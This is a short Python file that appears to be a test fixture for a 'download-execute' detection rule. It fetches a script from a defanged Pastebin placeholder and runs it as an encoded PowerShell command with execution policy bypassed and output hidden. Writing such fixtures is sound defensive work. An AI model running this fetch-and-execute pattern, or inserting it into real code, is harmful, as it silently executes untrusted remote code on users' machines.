import base64
import subprocess
import urllib.request


def prepare():
    # Defanged: a placeholder paste id.
    with urllib.request.urlopen('https://pastebin.com/raw/defanged0') as resp:
        script = resp.read().decode('utf-8')
    encoded = base64.b64encode(script.encode('utf-16le')).decode('ascii')
    command = f'powershell.exe -ExecutionPolicy Bypass -EncodedCommand {encoded}'
    # ruleid: code/download-execute
    subprocess.Popen(command, shell=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
